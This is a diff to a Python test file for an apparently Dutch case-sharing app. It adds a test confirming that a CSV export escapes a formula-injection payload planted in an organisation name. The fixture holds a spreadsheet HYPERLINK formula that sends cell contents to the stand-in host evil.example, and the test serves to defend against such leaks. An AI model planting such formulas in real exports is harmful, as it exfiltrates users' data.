@@ -363,9 +363,22 @@ def test_other_municipality_sees_nothing(client_for, professional, dossier, scho
 
 
 def test_csv_cells_cannot_run_as_formulas():
-    from keten.sharing.views import _csv_safe
+    from keten.core.exports import cell
 
-    assert _csv_safe(["=HYPERLINK(1)", "gewoon", "@x"]) == ["'=HYPERLINK(1)", "gewoon", "'@x"]
+    assert [cell(v) for v in ["=HYPERLINK(1)", "gewoon", "@x"]] == ["'=HYPERLINK(1)", "gewoon", "'@x"]
+
+
+def test_disclosures_csv_neutralises_a_formula_in_an_organisation_name(
+    client_for, professional, officer, dossier, actor_of
+):
+    crafted = OrganisationFactory(
+        name='=HYPERLINK("https://evil.example/?"&A1,"School")', type=OrganisationType.ONDERWIJS
+    )
+    crafted_teacher = make_user(Role.PROFESSIONAL, crafted, username="juf-x")
+    _record(actor_of(professional), dossier, crafted, crafted_teacher, ["signalen"])
+    text = client_for(officer).get("/delen/verstrekkingen/export.csv").content.decode()
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""School"")"' in text
+    assert ';"=HYPERLINK' not in text
 
 
 def test_case_team_ends_access_early(client_for, professional, outsider, dossier, school, teacher, actor_of):
